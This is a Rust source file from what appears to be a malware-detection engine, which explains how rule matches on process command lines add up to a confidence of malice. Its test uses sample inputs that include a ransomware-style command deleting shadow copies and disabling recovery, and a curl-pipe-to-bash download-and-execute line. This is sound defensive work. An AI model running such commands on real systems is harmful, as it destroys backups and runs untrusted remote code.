//! Why the rules say what they say, in full: for people and for fitting, not for the way of an alert.

use super::assessment::combine;
use super::fitted::System;
use super::ruleset::Matches;
use super::text::texts;
use super::{Observation, PlatformSet, Ruleset};
use crate::verdict::{Confidence, Evidence};
use serde::Serialize;

/// Everything behind an assessment, without the bound on evidence.
#[derive(Debug, Clone, Serialize)]
pub struct Explanation {
    /// The operating systems whose rules were tried.
    pub platforms: Vec<&'static str>,
    /// Every text that was matched.
    pub forms: Vec<Form>,
    /// Everything that counts, strongest first.
    pub matched: Vec<Evidence>,
    /// Rules on trial that matched, strongest first.
    pub staged: Vec<Evidence>,
    /// How the confidence comes together.
    pub steps: Vec<Step>,
    /// The probability of malice, the last step's.
    pub confidence: Confidence,
}

/// One form of one field.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Form {
    /// The field that rules name.
    pub field: &'static str,
    /// The name in evidence.
    pub label: &'static str,
    /// What literals and regular expressions are matched on. Markers stand between control characters.
    pub content: String,
}

/// What one more family adds.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Step {
    /// The family.
    pub family: String,
    /// Its strongest rule, which alone counts.
    pub strongest: String,
    /// What that is worth alone.
    pub weight: Confidence,
    /// The confidence with this family and all before it.
    pub confidence: Confidence,
}

impl Ruleset<'_> {
    /// The same judgement as [`Ruleset::evaluate`], with all that led to it.
    #[must_use]
    pub fn explain(&self, observation: &Observation<'_>) -> Explanation {
        let systems = PlatformSet::infer(observation);
        let texts = texts(observation, systems);
        let Matches { counted: mut matched, mut staged, .. } = self.matches(observation, systems, &texts);
        let by_strength = |a: &Evidence, b: &Evidence| b.weight.cmp(&a.weight).then_with(|| a.rule_id.cmp(&b.rule_id));
        matched.sort_by(by_strength);
        staged.sort_by(by_strength);
        let system = System::of_set(systems);
        let confidence = combine(&matched, system);
        Explanation {
            platforms: systems.names(),
            forms: texts
                .into_iter()
                .map(|text| Form { field: text.field.name(), label: text.label, content: text.content })
                .collect(),
            steps: steps(&matched, system),
            matched,
            staged,
            confidence,
        }
    }
}

/// One step per family, strongest first. `matched` is sorted, so a family's first is its strongest.
fn steps(matched: &[Evidence], system: System) -> Vec<Step> {
    let mut so_far: Vec<&Evidence> = Vec::new();
    let mut steps = Vec::new();
    for item in matched {
        if so_far.iter().any(|earlier| earlier.family == item.family) {
            continue;
        }
        so_far.push(item);
        steps.push(Step {
            family: item.family.clone(),
            strongest: item.rule_id.clone(),
            weight: item.weight,
            confidence: combine(so_far.iter().copied(), system),
        });
    }
    steps
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::heuristics::Assessment;

    #[test]
    fn an_explanation_and_an_assessment_agree_and_the_last_step_is_the_result() {
        for cmdline in [
            "cmd /c vssadmin.exe Delete Shadows /all /quiet & bcdedit /set {default} recoveryenabled no",
            "curl -s http://203.0.113.9/x.sh | bash",
            "ls -la",
        ] {
            let observation = Observation { process_cmdline: Some(cmdline), ..Observation::EMPTY };
            let assessment: Assessment = Ruleset::built_in().evaluate(&observation);
            let explanation = Ruleset::built_in().explain(&observation);
            assert_eq!(explanation.confidence, assessment.confidence);
            assert_eq!(explanation.matched[..assessment.evidence.len()], assessment.evidence);
            let last = explanation.steps.last().map_or(Confidence::ZERO, |step| step.confidence);
            assert_eq!(last, explanation.confidence);
            assert!(explanation.steps.is_sorted_by(|a, b| a.confidence <= b.confidence));
            assert!(explanation.forms.iter().any(|form| form.field == "cmdline"));
        }
    }
}
